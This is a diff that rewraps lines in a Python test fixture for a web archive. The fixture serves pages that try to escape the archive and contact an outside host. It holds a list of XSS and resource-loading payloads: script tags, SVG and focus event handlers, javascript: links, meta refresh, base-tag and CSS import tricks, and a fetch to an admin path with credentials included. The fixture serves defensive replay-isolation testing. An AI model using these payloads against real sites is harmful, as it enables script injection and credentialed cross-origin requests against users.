@@ -1,7 +1,7 @@
 """Pages that try to get out of an archive, and a host outside that notes who comes.
 
-Each tells in two ways that it ran: it asks its own origin for `/20010101000000/http://ran.example/`, which no policy
-of ours forbids, and it asks the host outside, which nothing of an archive should ever do.
+Each tells in two ways that it ran: it asks its own origin for `/20010101000000/http://ran.example/`, which no
+policy of ours forbids, and it asks the host outside, which nothing of an archive should ever do.
 """
 
 import http.server
@@ -12,9 +12,12 @@ from dataclasses import dataclass, field
 from urllib.parse import urlsplit
 
 RAN = "/20010101000000/http://ran.example/"
-_JS = f"new Image().src='{RAN}';new Image().src='@/script';try{{fetch('@/admin',{{credentials:'include'}})}}catch(e){{}}"
+_JS = (
+    f"new Image().src='{RAN}';new Image().src='@/script';"
+    "try{fetch('@/admin',{credentials:'include'})}catch(e){}"
+)
 
-_PAYLOADS = {
+_PAYLOADS = {  # one a line, however long
     "inline script": "<script>#</script>",
     "script of another host": "<script src=@/script.js></script>",
     "module": "<script type=module>import '@/module.js';#</script>",
@@ -25,7 +28,8 @@ _PAYLOADS = {
     "svg script": "<svg><script>#</script></svg>",
     "svg animation": '<svg><animate onbegin="#" attributeName=x dur=1s></svg>',
     "svg link set later": '<svg><a><set attributeName=href to="javascript:#"/><text y=20>x</text></a></svg>',
-    "svg picture elsewhere": "<svg><image href=@/svg.png width=9 height=9 /><use xlink:href='@/use.svg#x'/></svg>",
+    "svg picture elsewhere": "<svg><image href=@/svg.png width=9 height=9 /><use xlink:href='@/use.svg#x'/>"
+    "</svg>",
     "toggle": '<details open ontoggle="#">x</details>',
     "focus": '<input autofocus onfocus="#">',
     "frame with a page": '<iframe srcdoc="<script>#</script>"></iframe>',
@@ -35,17 +39,21 @@ _PAYLOADS = {
     "refresh": '<meta http-equiv=refresh content="0;url=@/refresh">',
     "refresh in two": '<META content="0;url=@/refresh" HTTP-EQUIV=" Refresh ">',
     "base": "<base href=@/base/><img src=picture.png><a href=x>x</a>",
-    "style sheet": "<link rel=stylesheet href=@/style.css><link rel='preload stylesheet' as=style href=@/style2.css>",
+    "style sheet": "<link rel=stylesheet href=@/style.css>"
+    "<link rel='preload stylesheet' as=style href=@/style2.css>",
     "prefetch": "<link rel=prefetch href=@/prefetch><link rel=preload as=image href=@/preload>"
     "<link rel=modulepreload href=@/modulepreload><link rel=prerender href=@/prerender>",
     "preconnect": "<link rel=preconnect href=@><link rel=dns-prefetch href=@>",
     "import of styles": "<style>@import '@/import.css'; @import url(@/import2.css);</style>",
-    "style with pictures": "<style>body{background:url('@/bg.png')}</style><p style=\"background:url(@/p.png)\">x</p>",
+    "style with pictures": "<style>body{background:url('@/bg.png')}</style>"
+    '<p style="background:url(@/p.png)">x</p>',
     "escaped style": "<style>body{background:u\\72l('@/bg.png')}</style>",
     "font": "<style>@font-face{font-family:f;src:url(@/font.woff)}body{font-family:f}</style>text",
     "media": "<video src=@/video poster=@/poster autoplay></video><audio src=@/audio autoplay></audio>",
-    "sets of pictures": "<img srcset='@/1.png 1x, @/2.png 2x'><picture><source srcset=@/3.png><img src=@/4.png></picture>",
-    "old pictures": "<body background=@/bg.png><img lowsrc=@/low.png dynsrc=@/dyn.png><input type=image src=@/input.png>",
+    "sets of pictures": "<img srcset='@/1.png 1x, @/2.png 2x'><picture><source srcset=@/3.png>"
+    "<img src=@/4.png></picture>",
+    "old pictures": "<body background=@/bg.png><img lowsrc=@/low.png dynsrc=@/dyn.png>"
+    "<input type=image src=@/input.png>",
     "form": "<form id=f action=@/form method=post><input name=a></form><script>f.submit()</script>",
     "ping": "<a id=a ping=@/ping href=#>x</a><script>a.click()</script>",
     "popup": "<script>#;open('@/popup')</script>",
